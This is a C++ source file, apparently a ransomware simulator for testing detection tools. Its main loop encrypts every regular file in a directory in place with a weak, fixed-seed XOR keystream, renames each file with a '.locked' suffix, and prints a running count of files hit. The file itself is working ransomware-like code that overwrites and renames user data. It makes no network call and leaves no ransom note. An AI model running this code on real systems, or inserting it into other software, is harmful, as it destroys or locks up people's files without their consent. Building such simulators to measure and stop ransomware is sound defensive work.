// SPDX-License-Identifier: Apache-2.0
// Rewrites the files of a directory one after the other, as ransomware does: reads one, writes it back unreadable, gives it another name. Prints how many
// it has come to, each on a line of its own, so that who stops it can tell.
//
//   ransom DIR
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <string>
#include <vector>

int main(int argc, char** argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: ransom DIR\n");
    return 64;
  }
  std::vector<std::string> names;
  DIR* directory = opendir(argv[1]);
  while (const dirent* entry = directory != nullptr ? readdir(directory) : nullptr) {
    if (entry->d_type == DT_REG) {
      names.push_back(std::string(argv[1]) + "/" + entry->d_name);
    }
  }
  std::sort(names.begin(), names.end());
  int done = 0;
  std::vector<unsigned char> content(1 << 20);
  for (const std::string& name : names) {
    const int fd = open(name.c_str(), O_RDWR);
    if (fd < 0) {
      continue;
    }
    const ssize_t size = read(fd, content.data(), content.size());
    // A stream cipher that is none, with the work of one.
    unsigned char key = 0x5a;
    for (int round = 0; round < 20; ++round) {
      for (ssize_t i = 0; i < size; ++i) {
        key = static_cast<unsigned char>(key * 167 + 13);
        content[static_cast<std::size_t>(i)] ^= key;
      }
    }
    if (size > 0 && pwrite(fd, content.data(), static_cast<std::size_t>(size), 0) == size) {
      fsync(fd);
      printf("%d\n", ++done);
      fflush(stdout);
    }
    close(fd);
    rename(name.c_str(), (name + ".locked").c_str());
  }
  return 0;
}
